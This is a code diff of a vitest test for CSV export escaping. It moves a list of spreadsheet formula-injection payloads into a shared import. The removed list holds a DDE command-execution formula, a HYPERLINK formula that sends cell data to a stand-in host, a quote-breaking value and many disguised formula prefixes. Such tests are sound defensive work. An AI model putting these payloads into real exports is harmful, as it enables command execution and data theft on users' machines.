@@ -2,40 +2,14 @@ import fc from 'fast-check'
 import { parseCsv } from 'hucre/csv'
 import { expect, test } from 'vitest'
 import { csvCell, csvText } from '../../worker/rules/csv.ts'
+import { FORMULAS } from '../support/formulas.ts'
 
 /** A reader that is not ours; every value as the text it stands for. */
 const readBack = (text: string): readonly (readonly string[])[] =>
   parseCsv(text.replace(/^\uFEFF/, ''), { delimiter: ',', typeInference: false }).map(row => row.map(String))
 
-/** What spreadsheets run, as attackers have written it, with every way of hiding its first sign that is known to us. */
-const ATTACKS = [
-  '=1+1',
-  '=cmd|"/c calc"!A1',
-  '+86 138',
-  '-2+3',
-  '@SUM(A1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  ' =1+1',
-  '\u3000=1+1',
-  '\uFEFF=1+1',
-  '\u200B=1+1',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(A1)',
-  '﹦1',
-  '﹢1',
-  '﹣1',
-  '﹫A1',
-  '−1',
-  '=HYPERLINK("https://example.com?"&A1,"点这里")',
-  '";=1+1',
-]
-
 test('T30: no text of a table can start a formula, however its first sign is written or hidden', () => {
-  for (const text of ATTACKS.slice(0, -1)) expect([text, csvCell(text)]).toEqual([text, `"'${text.replaceAll('"', '""')}"`])
+  for (const text of FORMULAS.slice(0, -1)) expect([text, csvCell(text)]).toEqual([text, `"'${text.replaceAll('"', '""')}"`])
   // A quote within a cell neither ends it nor opens another, whatever sign divides cells.
   expect(csvCell('";=1+1')).toBe('""";=1+1"')
 })
